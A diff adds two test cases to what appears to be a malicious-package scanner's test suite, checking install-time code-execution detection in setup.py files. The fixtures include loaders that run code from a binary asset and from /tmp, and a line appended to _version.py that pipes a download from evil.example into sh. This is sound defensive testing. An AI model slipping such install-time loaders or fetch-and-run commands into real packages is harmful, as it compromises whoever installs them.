@@ -142,3 +142,43 @@ PY
 	assert_success
 	assert_output ""
 }
+
+@test "code loaded from a data file by its path (spec_from_file_location, runpy) weighs in full at install time" {
+	mkdir -p p/assets
+	head -c 300 /dev/urandom > p/assets/h.bin
+	cat > p/setup.py <<'PY'
+import importlib.util, os, runpy
+from setuptools import setup
+spec = importlib.util.spec_from_file_location("h", os.path.join(os.path.dirname(__file__), "assets", "h.bin"))
+m = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(m)
+runpy.run_path("/tmp/.cache/stage2.py")
+setup(name="p", version="1.0")
+PY
+	# Each call is first weighed as a file of the package (5); at the artifact's end,
+	# finding no analysed source at that path, aura-analyze adds the full weight (100).
+	run dets p CodeExecution
+	assert_output "$(printf '%s\n' 'setup.py 3 CodeExecution install 100' 'setup.py 3 CodeExecution install 5' \
+		'setup.py 6 CodeExecution install 100' 'setup.py 6 CodeExecution install 5')"
+	run risk p
+	assert_output --regexp '^(high|critical)$'
+}
+
+@test "look-alike: runpy.run_path of the package's own _version.py weighs low, and that file's code counts where it runs" {
+	mkdir -p p/pkg
+	echo '__version__ = "1.0"' > p/pkg/_version.py
+	cat > p/setup.py <<'PY'
+import os, runpy
+from setuptools import setup
+about = runpy.run_path(os.path.join(os.path.dirname(__file__), "pkg", "_version.py"))
+setup(name="p", version=about["__version__"])
+PY
+	run dets p CodeExecution
+	assert_output 'setup.py 3 CodeExecution install 5'
+	run risk p
+	assert_output info
+	# The same file with a payload: what it does counts at install time.
+	echo 'import os; os.system("curl -s http://evil.example/x | sh")' >> p/pkg/_version.py
+	run risk p
+	assert_output --regexp '^(high|critical)$'
+}
